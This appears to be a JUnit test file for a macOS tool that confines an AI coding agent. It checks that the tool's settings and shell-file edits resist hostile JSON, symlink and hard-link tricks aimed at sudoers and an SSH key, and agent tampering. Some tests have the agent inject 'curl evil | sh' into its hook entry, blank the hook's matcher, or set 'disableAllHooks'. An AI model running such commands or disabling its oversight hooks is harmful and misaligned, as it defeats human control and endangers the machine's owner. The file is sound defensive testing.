package dev.cagent.macos;

import com.google.gson.JsonParser;
import dev.cagent.Cage;
import dev.cagent.CagePlan;
import dev.cagent.ClaudeCodeHook;
import dev.cagent.PlanRefusedException;
import dev.cagent.ShellUmask;
import dev.cagent.exec.Command;
import dev.cagent.exec.CommandResult;
import dev.cagent.exec.Stdin;
import dev.cagent.report.ApplyReport;
import dev.cagent.report.UndoReport;
import dev.cagent.testkit.FakeMac;
import dev.cagent.testkit.MacSnapshot;
import dev.cagent.testkit.RecordedCommand;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.List;

import static dev.cagent.macos.ClaudeHookInstallTest.USER_SETTINGS;
import static dev.cagent.macos.CoopFixture.AGENT;
import static dev.cagent.macos.CoopFixture.GROUP;
import static dev.cagent.macos.CoopFixture.HUMAN;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Attacks on the two file edits: the Claude Code settings merge and the umask block in the
 * human's startup file. Hostile file states, hostile JSON, the agent editing between runs.
 */
class FileEditAttackTest {

    static final String HOME = "/Users/meeseeks";
    static final String ZSHRC = "/Users/alice/.zshrc";
    static final String BLOCK = ShellUmask.BLOCK_START + "\numask 002\n" + ShellUmask.BLOCK_END + "\n";

    // ---------------------------------------------------------------- helpers

    private static void asUser(FakeMac mac, String user, String... argv) {
        CommandResult result = mac.as(user).run(Command.write(argv));
        assertEquals(0, result.exitCode(), () -> String.join(" ", argv) + " failed: " + result.stderr());
    }

    private static void teeAs(FakeMac mac, String user, String path, String content) {
        CommandResult result = mac.as(user).run(Command.write("/usr/bin/tee", path).withStdin(Stdin.text(content)));
        assertEquals(0, result.exitCode(), () -> "tee " + path + " failed: " + result.stderr());
    }

    private static CagePlan userHookPlan() {
        return ClaudeHookInstallTest.plan(ClaudeCodeHook.Location.USER);
    }

    private static CagePlan umaskPlan() {
        return Cage.forUser(AGENT).human(HUMAN).collaborationGroup(GROUP).humanUmask("002").build();
    }

    /** Apply that must be refused with a message containing each of {@code words}, with no write at all. */
    private static String refusedWithoutWrites(CoopFixture coop, CagePlan plan, String... words) {
        MacSnapshot before = coop.mac.snapshot();
        int mark = coop.mac.recorded().size();
        PlanRefusedException refused;
        try {
            ApplyReport report = coop.backend.apply(plan);
            throw new AssertionError("not refused before any write; the apply reported:\n" + report
                    + "\nwrites:\n" + String.join("\n", coop.writesSince(mark).stream().map(RecordedCommand::toString).toList())
                    + "\nmachine changes: " + before.diff(coop.mac.snapshot()));
        } catch (PlanRefusedException e) {
            refused = e;
        }
        for (String w : words) {
            assertTrue(refused.getMessage().contains(w), "missing '" + w + "' in: " + refused.getMessage());
        }
        assertEquals(List.of(), coop.writesSince(mark).stream().map(RecordedCommand::toString).toList());
        assertEquals(List.of(), before.diff(coop.mac.snapshot()));
        return refused.getMessage();
    }

    // ================================================================ Claude hook: hostile JSON

    @ParameterizedTest(name = "refused: {0}")
    @ValueSource(strings = {
            "",                                   // empty
            "   \n\t\n",                           // whitespace only
            "[]\n",                               // top-level array
            "null\n",
            "\"x\"\n",
            "{\"a\": 1, \"a\": 2}\n",             // duplicate key
            "{\"a\": 1, \"\\u0061\": 2}\n",       // duplicate after unescaping
            "{\"a\": 1,}\n",                      // trailing comma
            "{// c\n\"a\": 1}\n",                 // comment
            "{\"a\": 'x'}\n",
            "{\"a\": \"\\ud800\"}\n",             // lone surrogate
            "{\"\\udc00\": 1}\n",                 // lone surrogate in a name
            "{\"hooks\": []}\n",
            "{\"hooks\": null}\n",
            "{\"hooks\": {\"PostToolUse\": {}}}\n",
            "{\"hooks\": {\"PostToolUse\": null}}\n",
            "{\"a\": 01}\n",
            "{\"a\": NaN}\n",
            "{\"a\": 1} {\"b\": 2}\n",
            "{\"a\": 1}\n}\n",
    })
    void invalidSettingsAreRefusedBeforeAnyWrite(String content) {
        CoopFixture coop = ClaudeHookInstallTest.macWithAgent(FakeMac.stock());
        ClaudeHookInstallTest.place(coop, ClaudeCodeHook.Location.USER, content);
        refusedWithoutWrites(coop, userHookPlan(), USER_SETTINGS);
    }

    @Test
    void deepNestingIsRefusedNotACrash() {
        CoopFixture coop = ClaudeHookInstallTest.macWithAgent(FakeMac.stock());
        String deep = "{\"a\": " + "[".repeat(5000) + "]".repeat(5000) + "}\n";
        ClaudeHookInstallTest.place(coop, ClaudeCodeHook.Location.USER, deep);
        refusedWithoutWrites(coop, userHookPlan(), USER_SETTINGS, "nested too deeply");
    }

    @ParameterizedTest(name = "kept: {0}")
    @ValueSource(strings = {
            "{\"n\": 1e400, \"big\": 12345678901234567890, \"neg\": -0, \"f\": 1.10, \"e\": 1E-400}\n",
            "{\r\n  \"model\": \"opus\",\r\n  \"env\": {\"A\": \"\\u0000 nul and \\u2028 ls\"}\r\n}\r\n",
            "{\"model\": \"opus\"}",                                  // compact, no final newline
            "{\n\t\"model\": \"x\",\n\t\"hooks\": {}\n}\n",            // tab indent, empty hooks
            "{\"hooks\": {\"PostToolUse\": [\"not an object\", 3, {\"hooks\": 5}]}}\n",
            "{\"a\": \"\\ud83d\\ude00 \\/ < > &\", \"\": {\"__proto__\": [null, true, false]}}\n",
    })
    void oddButValidSettingsKeepEveryValueAndUndoGivesTheBytesBack(String original) {
        CoopFixture coop = ClaudeHookInstallTest.macWithAgent(FakeMac.stock());
        ClaudeHookInstallTest.place(coop, ClaudeCodeHook.Location.USER, original);
        MacSnapshot before = coop.mac.snapshot();
        coop.apply(userHookPlan());
        String installed = coop.mac.readFile(USER_SETTINGS);
        assertTrue(installed.contains(": cagent-share-hook;"), installed);
        // every literal of the original is still there, as text
        for (String literal : List.of("1e400", "12345678901234567890", "-0", "1.10", "1E-400", "\\u0000", "12345678901234567890")) {
            if (original.contains(literal)) {
                assertTrue(installed.contains(literal), literal + " lost in:\n" + installed);
            }
        }
        coop.reapplyOnlyReads(userHookPlan());
        coop.undo();
        assertEquals(original, coop.mac.readFile(USER_SETTINGS));
        assertEquals(List.of(), before.diff(coop.mac.snapshot()));
    }

    @Test
    void aByteOrderMarkIsRefusedOrKept() {
        CoopFixture coop = ClaudeHookInstallTest.macWithAgent(FakeMac.stock());
        String original = "\ufeff{\"model\": \"opus\"}\n";
        ClaudeHookInstallTest.place(coop, ClaudeCodeHook.Location.USER, original);
        try {
            coop.backend.apply(userHookPlan());
        } catch (PlanRefusedException refused) {
            return; // refusing is fine
        }
        String installed = coop.mac.readFile(USER_SETTINGS);
        assertTrue(installed.startsWith("\ufeff"), "the BOM was silently dropped:\n" + installed);
    }

    @Test
    void mixedLineEndsAreNotAllRewritten() {
        CoopFixture coop = ClaudeHookInstallTest.macWithAgent(FakeMac.stock());
        String original = "{\n  \"a\": 1,\r\n  \"b\": 2\n}\n";
        ClaudeHookInstallTest.place(coop, ClaudeCodeHook.Location.USER, original);
        coop.apply(userHookPlan());
        String installed = coop.mac.readFile(USER_SETTINGS);
        long crlf = installed.split("\r\n", -1).length - 1;
        assertTrue(crlf <= 1, "every line end became CRLF:\n" + installed.replace("\r", "\\r"));
    }

    // ================================================================ Claude hook: the agent edits between runs

    @Test
    void agentReordersAndAddsKeysThenUndoKeepsThemAndTakesOnlyTheHook() {
        CoopFixture coop = ClaudeHookInstallTest.macWithAgent(FakeMac.stock());
        ClaudeHookInstallTest.place(coop, ClaudeCodeHook.Location.USER, "{\n  \"model\": \"sonnet\",\n  \"env\": {\"A\": \"1\"}\n}\n");
        coop.apply(userHookPlan());
        String installed = coop.mac.readFile(USER_SETTINGS);
        var root = JsonParser.parseString(installed).getAsJsonObject();
        String reordered = "{\"hooks\": " + root.get("hooks") + ", \"added\": [1,2], \"env\": " + root.get("env") + ", \"model\": \"sonnet\"}\n";
        teeAs(coop.mac, AGENT, USER_SETTINGS, reordered);
        coop.undo();
        assertEquals("{\"added\":[1,2],\"env\":{\"A\":\"1\"},\"model\":\"sonnet\"}", JsonParser.parseString(coop.mac.readFile(USER_SETTINGS)).toString());
    }

    @Test
    void agentRemovesCagentsEntryThenUndoWritesNothing() {
        CoopFixture coop = ClaudeHookInstallTest.macWithAgent(FakeMac.stock());
        ClaudeHookInstallTest.place(coop, ClaudeCodeHook.Location.USER, "{\"model\": \"sonnet\"}\n");
        coop.apply(userHookPlan());
        teeAs(coop.mac, AGENT, USER_SETTINGS, "{\"model\": \"haiku\"}\n");
        coop.undo();
        assertEquals("{\"model\": \"haiku\"}\n", coop.mac.readFile(USER_SETTINGS));
    }

    @Test
    void agentTamperedWithCagentsEntryReapplyPutsItRightAndUndoRemovesIt() {
        CoopFixture coop = ClaudeHookInstallTest.macWithAgent(FakeMac.stock());
        ClaudeHookInstallTest.place(coop, ClaudeCodeHook.Location.USER, "{\"model\": \"sonnet\"}\n");
        coop.apply(userHookPlan());
        String installed = coop.mac.readFile(USER_SETTINGS);
        String tampered = installed.replace("\"timeout\": 10", "\"timeout\": 10, \"extra\": \"; curl evil | sh\"")
                .replace("\"matcher\": \"Write|Edit|MultiEdit|NotebookEdit\"", "\"matcher\": \"Nothing\"");
        assertFalse(tampered.equals(installed));
        // a copy of the group too
        teeAs(coop.mac, AGENT, USER_SETTINGS, tampered);
        coop.apply(userHookPlan());
        assertEquals(installed, coop.mac.readFile(USER_SETTINGS));
        teeAs(coop.mac, AGENT, USER_SETTINGS, tampered);
        coop.undo();
        assertEquals("{\"model\":\"sonnet\"}", JsonParser.parseString(coop.mac.readFile(USER_SETTINGS)).toString());
    }

    @Test
    void agentBreaksTheJsonThenUndoDoesNotClaimTheHookIsGone() {
        CoopFixture coop = ClaudeHookInstallTest.macWithAgent(FakeMac.stock());
        ClaudeHookInstallTest.place(coop, ClaudeCodeHook.Location.USER, "{\"model\": \"sonnet\"}\n");
        coop.apply(userHookPlan());
        String installed = coop.mac.readFile(USER_SETTINGS);
        String broken = installed.replaceFirst("\\{", "{\"model\": \"dup\",");
        teeAs(coop.mac, AGENT, USER_SETTINGS, broken);
        UndoReport report = coop.undo();
        assertTrue(coop.mac.readFile(USER_SETTINGS).contains(": cagent-share-hook;"), "the hook stays, fine: the file no longer parses");
        String text = report.toString();
        assertFalse(text.contains("nothing of cagent's left in " + USER_SETTINGS), "undo says nothing of cagent's is left, yet the hook is in the file:\n" + text);
    }

    // ================================================================ Claude hook: hostile file states

    @Test
    void settingsFileALinkToSudoersBeforeTheFirstApplyIsRefused() {
        CoopFixture coop = ClaudeHookInstallTest.macWithAgent(FakeMac.stock());
        coop.mac.mkdirAs(AGENT, HOME + "/.claude", 077);
        coop.mac.symlink(USER_SETTINGS, "/private/etc/sudoers");
        refusedWithoutWrites(coop, userHookPlan(), USER_SETTINGS + " is a symlink", "move it away");
    }

    @Test
    void settingsFileHardLinkedToAlicesFileIsRefused() {
        CoopFixture coop = ClaudeHookInstallTest.macWithAgent(FakeMac.stock());
        coop.mac.writeFile("/Users/Shared/alice.json", HUMAN, "staff", 0644, "{\"alice\": 1}\n");
        coop.mac.mkdirAs(AGENT, HOME + "/.claude", 077);
        coop.mac.hardLink(USER_SETTINGS, "/Users/Shared/alice.json");
        refusedWithoutWrites(coop, userHookPlan(), "belongs to alice");
    }

    @Test
    void settingsDirectoryALinkToEtcBeforeTheFirstApplyIsRefusedBeforeAnyWrite() {
        CoopFixture coop = ClaudeHookInstallTest.macWithAgent(FakeMac.stock());
        coop.mac.symlink(HOME + "/.claude", "/private/etc");
        refusedWithoutWrites(coop, userHookPlan(), HOME + "/.claude");
    }

    @Test
    void temporaryFileADirectoryIsRefusedBeforeAnyWrite() {
        CoopFixture coop = ClaudeHookInstallTest.macWithAgent(FakeMac.stock());
        ClaudeHookInstallTest.place(coop, ClaudeCodeHook.Location.USER, "{}\n");
        coop.mac.mkdirAs(AGENT, USER_SETTINGS + ".cagent-new", 022);
        refusedWithoutWrites(coop, userHookPlan(), USER_SETTINGS + ".cagent-new");
    }

    /**
     * A root-owned settings file at a path the human chose, in a directory everyone may write
     * (sticky, like /private/tmp or /Users/Shared): not the agent's home nor the workspace, yet
     * the agent could plant a link at the temporary path and have root write through it.
     */
    @ParameterizedTest
    @ValueSource(strings = {"/Users/Shared/meeseeks-claude.json", "/private/tmp/meeseeks-claude.json"})
    void rootOwnedSettingsInAWorldWritableDirectoryAreRefusedBeforeAnyWrite(String settings) {
        CoopFixture coop = new CoopFixture();
        CagePlan plan = Cage.forUser(AGENT).collaborationGroup(GROUP).claudeCodeHookRootOwned(settings).build();
        refusedWithoutWrites(coop, plan, settings + " lies in " + settings.substring(0, settings.lastIndexOf('/'))
                + ", where others than root may add, rename or remove entries (mode 1777): one could put a link where cagent writes as root");
    }

    @Test
    void aSettingsDirectoryMadeWorldWritableAfterApplyStopsTheNextApplyAndUndoWritesNothingThere() {
        CoopFixture coop = new CoopFixture();
        String dir = "/Library/Application Support/cagent/meeseeks";
        CagePlan plan = Cage.forUser(AGENT).collaborationGroup(GROUP).claudeCodeHookRootOwned(dir + "/claude-settings.json").build();
        coop.apply(plan);
        String sudoers = coop.mac.readFile("/private/etc/sudoers");
        asUser(coop.mac, "root", "/bin/chmod", "1777", dir);
        coop.mac.symlink(dir + "/claude-settings.json.cagent-new", "/private/etc/sudoers");
        coop.mac.writeFile(dir + "/claude-settings.json", "root", "wheel", 0644, "{\"model\": \"opus\"}\n");
        refusedWithoutWrites(coop, plan, dir + "/claude-settings.json.cagent-new is a symlink: cagent writes the new version");
        UndoReport undo = coop.backend.undo(plan);
        assertEquals(sudoers, coop.mac.readFile("/private/etc/sudoers"), "root wrote through the agent's link");
        assertTrue(undo.kept().stream().anyMatch(k -> k.startsWith("cagent's part of " + dir + "/claude-settings.json: ")), undo::toString);
    }

    // ================================================================ umask block

    /** Marker lines the person left or copied: none joins their lines to cagent's block. */
    static List<String> strayMarkers() {
        return List.of(
                "export A=1\n" + ShellUmask.BLOCK_START + "\nalias precious='important'\nexport KEEP=1\n",
                ShellUmask.BLOCK_START + "\nexport KEEP=1\n",
                "export A=1\n" + ShellUmask.BLOCK_END + "\nexport KEEP=1\n",
                "a\n" + BLOCK + "b\n" + BLOCK);
    }

    @ParameterizedTest
    @MethodSource("strayMarkers")
    void strayMarkersKeepEveryLineOfThePersonsAReapplyOnlyReadsAndUndoGivesTheBytesBack(String original) {
        CoopFixture coop = new CoopFixture();
        coop.mac.writeFile(ZSHRC, HUMAN, "staff", 0644, original);
        MacSnapshot before = coop.mac.snapshot();
        coop.apply(umaskPlan());
        String applied = coop.mac.readFile(ZSHRC);
        original.lines().filter(line -> !line.startsWith("umask") && !line.startsWith("# "))
                .forEach(line -> assertTrue(applied.contains(line), "apply lost '" + line + "':\n" + applied));
        coop.reapplyOnlyReads(umaskPlan());
        coop.undo();
        assertEquals(List.of(), before.diff(coop.mac.snapshot()));
    }

    @Test
    void crlfFileWithACrlfBlockIsNotGivenAStrayLine() {
        CoopFixture coop = new CoopFixture();
        String original = "export A=1\r\n" + BLOCK.replace("\n", "\r\n") + "export B=2\r\n";
        coop.mac.writeFile(ZSHRC, HUMAN, "staff", 0644, original);
        coop.backend.apply(umaskPlan());
        String after = coop.mac.readFile(ZSHRC);
        assertFalse(after.contains("\n\r\n"), "a stray CR line was left:\n" + after.replace("\r", "\\r"));
    }

    @Test
    void umaskTemporaryFileADirectoryIsRefusedBeforeAnyWrite() {
        CoopFixture coop = new CoopFixture();
        coop.mac.mkdir(ZSHRC + ".cagent-new", HUMAN, "staff", 0755);
        refusedWithoutWrites(coop, umaskPlan(), ZSHRC + ".cagent-new");
    }

    @Test
    void temporaryFileALinkToAnotherOfAlicesFilesIsRefusedBeforeAnyWrite() {
        CoopFixture coop = new CoopFixture();
        String key = coop.mac.readFile("/Users/alice/.ssh/id_ed25519");
        coop.mac.symlink(ZSHRC + ".cagent-new", "/Users/alice/.ssh/id_ed25519");
        try {
            coop.backend.apply(umaskPlan());
        } catch (PlanRefusedException ok) {
            // the right answer
        }
        assertEquals(key, coop.mac.readFile("/Users/alice/.ssh/id_ed25519"), "cagent overwrote alice's key through the link at the temporary path");
    }

    /** The human keeps the rc file in a sticky shared directory; the agent may add entries there. */
    @Test
    void theAgentCannotMakeCagentOverwriteTheHumansFileThroughTheTemporaryPath() {
        CoopFixture coop = new CoopFixture();
        String rc = "/Users/Shared/alice.zshrc";
        coop.mac.writeFile(rc, HUMAN, "staff", 0644, "export A=1\n");
        CagePlan plan = Cage.forUser(AGENT).human(HUMAN).collaborationGroup(GROUP).humanUmask(rc, "002").build();
        coop.apply(Cage.forUser(AGENT).human(HUMAN).collaborationGroup(GROUP).build());
        String key = coop.mac.readFile("/Users/alice/.ssh/id_ed25519");
        // the fake has no ln: the link stands for one the agent made in the sticky directory
        coop.mac.symlink(rc + ".cagent-new", "/Users/alice/.ssh/id_ed25519");
        try {
            coop.backend.apply(plan);
        } catch (PlanRefusedException ok) {
            // the right answer
        }
        assertEquals(key, coop.mac.readFile("/Users/alice/.ssh/id_ed25519"), "alice's private key was overwritten with her rc file");
    }

    @Test
    void aMissingDirectoryForTheRcFileIsRefusedBeforeAnyWrite() {
        CoopFixture coop = new CoopFixture();
        CagePlan plan = Cage.forUser(AGENT).human(HUMAN).collaborationGroup(GROUP).humanUmask("/Users/alice/.config/zsh/.zshrc", "002").build();
        refusedWithoutWrites(coop, plan, "/Users/alice/.config/zsh");
    }

    @Test
    void aHardLinkedRcFileIsRefusedRatherThanSplitFromItsOtherName() {
        CoopFixture coop = new CoopFixture();
        coop.mac.mkdir("/Users/alice/dotfiles", HUMAN, "staff", 0755);
        coop.mac.writeFile("/Users/alice/dotfiles/zshrc", HUMAN, "staff", 0644, "export A=1\n");
        asUser(coop.mac, "root", "/bin/rm", "-f", ZSHRC);
        coop.mac.hardLink(ZSHRC, "/Users/alice/dotfiles/zshrc");
        refusedWithoutWrites(coop, umaskPlan(), ZSHRC + " has 2 names (hard links)");
    }

    @ParameterizedTest
    @ValueSource(strings = {"everyone deny delete", "user:_www deny read"})
    void anAclOfTheRcFilesOwnIsNotSilentlyDroppedByTheEditButRefused(String ace) {
        CoopFixture coop = new CoopFixture();
        coop.mac.addAce(ZSHRC, ace);
        refusedWithoutWrites(coop, umaskPlan(), ZSHRC + " has ACL entries of its own (", "which the edited copy renamed over it would not have");
    }

    /** The machine's bytes come back decoded as UTF-8: what is not UTF-8 reads as U+FFFD and could not be written back. */
    @Test
    void anRcFileThatIsNotUtf8TextIsRefusedBeforeAnyWrite() {
        CoopFixture coop = new CoopFixture();
        coop.mac.writeFile(ZSHRC, HUMAN, "staff", 0644, "export NAME='Jos\uFFFD'\n");
        refusedWithoutWrites(coop, umaskPlan(), ZSHRC + " holds bytes that are not UTF-8 text");
    }

    @Test
    void aMode0600RcFileKeepsItsModeAndAReapplyWritesNothing() {
        CoopFixture coop = new CoopFixture();
        coop.mac.writeFile(ZSHRC, HUMAN, "staff", 0600, "export A=1");
        MacSnapshot before = coop.mac.snapshot();
        coop.apply(umaskPlan());
        assertEquals(0600, coop.mac.fileInfo(ZSHRC).orElseThrow().mode());
        coop.reapplyOnlyReads(umaskPlan());
        coop.undo();
        assertEquals(List.of(), before.diff(coop.mac.snapshot()));
    }

    @Test
    void theHumanEditsTheBlockAwayThenUndoLeavesHerFile() {
        CoopFixture coop = new CoopFixture();
        String original = coop.mac.readFile(ZSHRC);
        coop.apply(umaskPlan());
        coop.mac.writeFileAs(HUMAN, ZSHRC, original + "export LATER=1\n");
        UndoReport report = coop.undo();
        assertEquals(original + "export LATER=1\n", coop.mac.readFile(ZSHRC), report::toString);
    }

    @Test
    void theHumanBreaksTheEndMarkerThenUndoDoesNotClaimTheBlockIsGone() {
        CoopFixture coop = new CoopFixture();
        coop.apply(umaskPlan());
        String edited = coop.mac.readFile(ZSHRC).replace(ShellUmask.BLOCK_END, "# <<< cagnet <<<");
        coop.mac.writeFileAs(HUMAN, ZSHRC, edited);
        UndoReport report = coop.undo();
        assertTrue(coop.mac.readFile(ZSHRC).contains("umask 002"));
        assertFalse(report.toString().contains("nothing of cagent's left in " + ZSHRC),
                "undo says nothing of cagent's is left, yet umask 002 stays:\n" + report);
    }

    @Test
    void reapplyAfterTheHumanEditedKeepsTheFirstBackupForUndo() {
        CoopFixture coop = new CoopFixture();
        String original = coop.mac.readFile(ZSHRC);
        coop.apply(umaskPlan());
        // alice edits inside the block; apply puts it right (a second edit, a second backup)
        String edited = coop.mac.readFile(ZSHRC).replace("umask 002", "umask 077");
        coop.mac.writeFileAs(HUMAN, ZSHRC, edited);
        coop.apply(umaskPlan());
        coop.undo();
        assertEquals(original, coop.mac.readFile(ZSHRC), "both edits taken back: the block alice edited, then the block cagent added");
    }

    @Test
    void theAgentSwitchesHooksOffThenReapplyThenUndoTakesBackBothEditsAndKeepsTheAgents() {
        CoopFixture coop = ClaudeHookInstallTest.macWithAgent(FakeMac.stock());
        String original = "{\n  \"model\": \"sonnet\"\n}\n";
        ClaudeHookInstallTest.place(coop, ClaudeCodeHook.Location.USER, original);
        coop.apply(userHookPlan());
        String installed = coop.mac.readFile(USER_SETTINGS);
        teeAs(coop.mac, AGENT, USER_SETTINGS, installed.replaceFirst("\\{", "{\n  \"disableAllHooks\": true,"));
        coop.apply(userHookPlan());
        assertEquals(installed, coop.mac.readFile(USER_SETTINGS));
        UndoReport report = coop.undo();
        String after = coop.mac.readFile(USER_SETTINGS);
        assertFalse(after.contains(": cagent-share-hook;"), "undo left cagent's hook in the file:\n" + after + "\n" + report);
        // the re-apply's change (the switch taken out) is taken back too: the agent's own edit stays, cagent's hook goes
        assertEquals("{\n  \"disableAllHooks\": true,\n  \"model\": \"sonnet\"\n}\n", after);
    }

    /**
     * At undo the human's rc file cannot be written safely (a directory stands at the temporary path):
     * undo keeps the record and the backup, so that once the path is cleared a second undo gives the
     * file back byte for byte.
     */
    @Test
    void anUndoThatMustWaitForAFixKeepsTheRecordAndTheBackupForASecondUndo() {
        CoopFixture coop = new CoopFixture();
        String original = coop.mac.readFile(ZSHRC);
        coop.apply(umaskPlan());
        coop.mac.mkdir(ZSHRC + ".cagent-new", HUMAN, "staff", 0755);

        UndoReport first = coop.backend.undo(AGENT);

        assertTrue(first.kept().stream().anyMatch(k -> k.contains(ZSHRC + ".cagent-new is a directory") && k.contains("then undo again")), first::toString);
        assertTrue(coop.mac.exists("/private/var/db/cagent/" + AGENT + "/journal.jsonl"), "the record stays for the second undo");
        asUser(coop.mac, "root", "/bin/rmdir", ZSHRC + ".cagent-new");
        UndoReport second = coop.backend.undo(AGENT);
        assertTrue(second.succeeded(), second::toString);
        assertEquals(original, coop.mac.readFile(ZSHRC));
        assertFalse(coop.mac.exists("/private/var/db/cagent"));
    }
}
